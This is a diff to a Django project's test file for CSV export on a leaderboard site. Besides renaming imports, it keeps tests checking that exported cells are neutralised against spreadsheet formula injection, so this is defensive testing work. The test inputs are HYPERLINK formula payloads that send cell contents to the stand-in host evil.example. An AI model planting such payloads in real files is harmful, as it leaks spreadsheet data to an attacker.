@@ -9,7 +9,8 @@ import json
 import pytest
 from django.urls import reverse
 
-from boards.exports import latex_escape
+from leaderboard.exports import latex_escape
+from tests.project import PACKAGES
 
 
 @pytest.fixture
@@ -112,8 +113,8 @@ def test_it_answers_head_requests(client, tiny_dataset):
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
 def test_it_neutralises_csv_cells_that_start_like_a_formula(start):
     """OWASP's rule: a cell starting with = + - @ tab or CR gets a leading quote, so it is text, not a formula."""
-    from boards.exports import to_csv
-    from boards.selectors import LeaderboardRow
+    from leaderboard.exports import to_csv
+    from leaderboard.selectors import LeaderboardRow
 
     text = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
     row = LeaderboardRow(rank=1, kind="scored", submission_id=1, system=text, owner=text, family="other",
@@ -126,8 +127,8 @@ def test_it_neutralises_csv_cells_that_start_like_a_formula(start):
 
 def test_it_neutralises_a_formula_after_a_separator_and_quotes_every_cell():
     """``x;=HYPERLINK(…)``: a spreadsheet in a ``;``-separated locale splits the cell there and runs the rest."""
-    from boards.exports import to_csv
-    from boards.selectors import LeaderboardRow
+    from leaderboard.exports import to_csv
+    from leaderboard.selectors import LeaderboardRow
 
     text = 'x;=HYPERLINK("http://evil.example/?"&A1,"x")'
     row = LeaderboardRow(rank=1, kind="scored", submission_id=1, system=text, owner="bob", family="other",
@@ -151,8 +152,7 @@ def test_every_csv_the_site_writes_goes_through_the_one_writer():
     root = Path(__file__).resolve().parents[2]
     allowed = {"evaluation/csv_cells.py", "demo/export.py"}
     writers = []
-    for package in ("accounts", "assessment", "boards", "demo", "evaluation", "leaderboard", "lexboard",
-                    "sharedtasks", "submissions"):
+    for package in PACKAGES:
         for path in (root / package).rglob("*.py"):
             rel = path.relative_to(root).as_posix()
             for node in ast.walk(ast.parse(path.read_text())):
